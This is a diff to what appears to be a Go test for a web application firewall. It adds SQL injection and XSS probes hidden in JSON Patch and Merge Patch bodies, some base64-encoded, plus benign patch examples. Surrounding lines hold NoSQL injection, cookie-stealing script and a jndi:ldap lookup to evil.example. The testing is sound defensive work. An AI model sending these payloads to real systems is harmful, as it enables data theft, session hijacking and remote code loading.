@@ -108,6 +108,8 @@ func attackTable() (crsCatches, crsMisses []probe) {
 		{name: "NoSQL stage $project in JSON", method: "POST", path: "/find", contentType: js, body: `[{"$project": {"from": "users", "as": "u"}}]`},
 		{name: "NoSQL stage $group in JSON", method: "POST", path: "/find", contentType: js, body: `[{"$group": {"from": "users", "as": "u"}}]`},
 		{name: "NoSQL $set update in a form", method: "POST", path: "/profile", contentType: form, body: "user[$set][role]=admin"},
+		{name: "SQLi in a JSON Merge Patch", method: "PATCH", path: "/api/users/7", contentType: "application/merge-patch+json", body: `{"name": "x' UNION SELECT password FROM users --"}`},
+		{name: "XSS in a JSON Patch", method: "PATCH", path: "/api/users/7", contentType: "application/json-patch+json", body: `[{"op": "replace", "path": "/bio", "value": "<script>alert(document.cookie)</script>"}]`},
 		{name: "session fixation", method: "GET", path: "/?x=" + q(`<meta http-equiv="Set-Cookie" content="sessionid=abc">`)},
 	}
 	crsMisses = []probe{
@@ -128,6 +130,7 @@ func attackTable() (crsCatches, crsMisses []probe) {
 		{name: "JSON sent as text/plain, base64 SQLi in a leaf", method: "POST", path: "/api", contentType: "text/plain", body: `{"filter": "` + b64("1' UNION SELECT username, password FROM users--") + `"}`},
 		{name: "JSON sent as a form, base64 XSS in a leaf", method: "POST", path: "/api", contentType: form, body: `{"q": "` + b64("<script>alert(document.cookie)</script>") + `"}`},
 		{name: "JSON sent as XML, base64 jndi in a leaf", method: "POST", path: "/api", contentType: "application/xml", body: `[{"v": "` + b64("${jndi:ldap://evil.example/a}") + `"}]`},
+		{name: "base64 SQLi in a JSON Merge Patch", method: "PATCH", path: "/api/users/7", contentType: "application/merge-patch+json", body: `{"name": "` + b64("1' UNION SELECT username, password FROM users--") + `"}`},
 		// NoSQL
 		{name: "NoSQL stage $lookup in JSON", method: "POST", path: "/find", contentType: js, body: `[{"$lookup": {"from": "users", "as": "u"}}]`},
 		{name: "NoSQL stage $unionWith in JSON", method: "POST", path: "/find", contentType: js, body: `[{"$unionWith": {"from": "users", "as": "u"}}]`},
@@ -195,6 +198,10 @@ func benignTable() []probe {
 		{name: "Handlebars: {{#each}}, {{> partial}}, {{this}}", method: "POST", path: "/api/templates", contentType: js,
 			body: `{"body": "{{#each items}}<li>{{this.name}}</li>{{/each}} {{> footer}} {{!-- a comment --}} {{else}}"}`},
 		{name: "numbers and text in braces", method: "GET", path: "/search?q=" + q("{2024 10} sizes 7 7 and @home (7 x 7 cm)")},
+		{name: "a JSON Merge Patch (RFC 7396)", method: "PATCH", path: "/api/users/7", contentType: "application/merge-patch+json",
+			body: `{"title": "Hello!", "phoneNumber": "+01-123-456-7890", "author": {"familyName": null}, "tags": ["example"]}`},
+		{name: "a JSON Patch (RFC 6902)", method: "PATCH", path: "/apis/apps/v1/namespaces/default/deployments/web", contentType: "application/json-patch+json",
+			body: `[{"op": "replace", "path": "/spec/replicas", "value": 3}, {"op": "add", "path": "/metadata/labels/tier", "value": "frontend"}]`},
 		{name: "a $comment and a $ in a value", method: "POST", path: "/api", contentType: js, body: `{"$comment": "pricing", "total": "$ 12.50"}`},
 		{name: "Markdown with a Mustache variable", method: "POST", path: "/api/docs", contentType: js,
 			body: `{"text": "Hello {{name}}, your order {{order.id}} ships today. Use {{#items}}...{{/items}} to loop."}`},
